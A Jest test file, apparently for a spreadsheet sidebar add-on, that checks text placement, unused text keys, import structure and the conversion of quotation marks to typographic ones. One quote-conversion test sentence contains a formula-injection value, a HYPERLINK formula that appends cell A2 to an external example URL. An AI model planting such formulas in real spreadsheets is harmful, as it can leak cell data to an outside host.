import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { dated } from '../../src/sidebar/texts/dates';
import { bold, phrase } from '../../src/sidebar/texts/phrase';
import { textLiterals } from './text-literals';

const files = readdirSync('src/sidebar', { recursive: true, encoding: 'utf8' })
  .filter((name) => /\.tsx?$/.test(name))
  .map((name) => join('src/sidebar', name));
const isTexts = (path: string): boolean => path.startsWith('src/sidebar/texts/');

/** A template's value. */
const COUNT = `$\{count}`;

/** Capitalized, and nothing that a person reads: a setting's value and a key of the keyboard. */
const CODES = new Set(['AccountNumber', 'Escape']);

test.each<[where: string, source: string, found: readonly string[]]>([
  ['between tags', '<p>Try again</p>', ['Try again']],
  ['between tags, in small letters', '<p>{a} or {b}</p>', [' or ']],
  ['beside a condition', "<b>{count === 1 ? 'row' : 'rows'}</b>", ['row', 'rows']],
  ['in a template between tags', `<p>{\`${COUNT} rows\`}</p>`, [' rows']],
  [
    'in what is read aloud',
    '<nav aria-label="steps" title="the steps"><input placeholder="a name" /></nav>',
    ['steps', 'the steps', 'a name'],
  ],
  ['in a label of our own', '<Button primary label="again" onPress={() => job.go(2)} />', ['again']],
  ['in a label by a condition', `<Button label={isOn ? \`${COUNT} on\` : "off"} onPress={go} />`, [' on', 'off']],
  ['in a constant', "const SAYS = 'Nothing was sent.';", ['Nothing was sent.']],
  ['in an answer to a click', "<p onClick={() => say('Copied.')} />", ['Copied.']],
  ['after a regular expression with a quote', 'const good = /["\'`]/.test(id); const a = <i>it</i>;', ['it']],
])('a text is found %s', (_, source, found) => {
  expect(textLiterals(source, 'tsx')).toEqual(found);
});

test.each([
  "<p class=\"quiet\">{TEXTS.row(3)}{' '}·{'\u00a0'}</p>",
  "<p>{tab.route === 'by hand' && 'could not check' !== result && <Icon name=\"fix\" />}</p>",
  `<ul>{tabs.map((tab) => <li key={\`${COUNT}-1\`} class={on ? "status busy" : "status"}>{tab.name}</li>)}</ul>`,
  "switch (question.ask) { case 'member ID column': go({ route: 'by hand', state: 'CREDIT SEEN' }); }",
])('what is no text is left alone: %s', (source) => {
  expect(textLiterals(source, 'tsx')).toEqual([]);
});

test('a component holds no text of its own: all of them stand in src/sidebar/texts', () => {
  const own = files
    .filter((path) => !isTexts(path))
    .flatMap((path) => {
      const texts = textLiterals(readFileSync(path, 'utf8'), path.endsWith('x') ? 'tsx' : 'ts');
      return texts.filter((text) => !CODES.has(text)).map((text) => `${path}: ${text}`);
    });
  expect(own).toEqual([]);
  expect(files.filter((path) => path.endsWith('.tsx')).length).toBeGreaterThan(15);
});

test('no text is without a reader', () => {
  const NAMED = /^ {2}(\w+)(?=[:(])/gm;
  const read = files.map((path) => readFileSync(path, 'utf8')).join('\n');
  const texts = files.filter(isTexts).flatMap((path) => {
    const objects = readFileSync(path, 'utf8').matchAll(/^export const [A-Z_]+ = \{$[\s\S]*?^\} as const;$/gm);
    return [...objects].flatMap(([object]) => [...object.matchAll(NAMED)].map(([, name]) => `${path}: ${name}`));
  });
  expect(texts.filter((line) => !new RegExp(`\\.${line.replace(/^.*: /, '')}\\b`).test(read))).toEqual([]);
  expect(texts.length).toBeGreaterThan(150);
});

test('the types of the other parts come into the page through one file', () => {
  const OTHERS =
    /^(?:import|export) (type )?\{([^}]*)\} from '(?:\.\.\/)+(answers|growthzone|roster|run|google)(?=['/])/gm;
  const others = files
    .filter((path) => path !== 'src/sidebar/server.ts')
    .flatMap((path) =>
      [...readFileSync(path, 'utf8').matchAll(OTHERS)]
        .filter(([, type, names, part]) => type !== undefined || /\btype /.test(names ?? '') || part === 'answers')
        .map(([line]) => `${path}: ${line}`),
    );
  expect(others).toEqual([]);
  expect([...readFileSync('src/sidebar/server.ts', 'utf8').matchAll(OTHERS)].length).toBeGreaterThan(2);
});

test('a phrase keeps its words and values in order, and a value brings no markup', () => {
  expect(phrase`${bold(3)} of ${5} people, “${'<b>x</b>'}”`).toEqual([
    '',
    { bold: '3' },
    ' of ',
    '5',
    ' people, “',
    '<b>x</b>',
    '”',
  ]);
});

test.each([
  ['"Status" says "P", 2 h by Ana O\'Neil', '“Status” says “P”, 2 h by Ana O’Neil'],
  [
    '"Office" says "=HYPERLINK("http://example.com/?"&A2,"click")", which would run.',
    '“Office” says “=HYPERLINK("http://example.com/?"&A2,"click")”, which would run.',
  ],
  [
    'Two columns (headers "A" and "B"), or one ("C"): "Y"/"N"?',
    'Two columns (headers “A” and “B”), or one (“C”): “Y”/“N”?',
  ],
  ['Member ID "" is empty. Use "=A1&"x""?', 'Member ID “” is empty. Use “=A1&"x"”?'],
  ["the others' e-mail; it is not the row's", 'the others’ e-mail; it is not the row’s'],
  ['\'007 is a text, and 5" is a length', '\'007 is a text, and 5" is a length'],
])('a sentence of the add-on has the quotation marks of the page: %s', (sentence, shown) => {
  expect(dated(sentence)).toBe(shown);
});
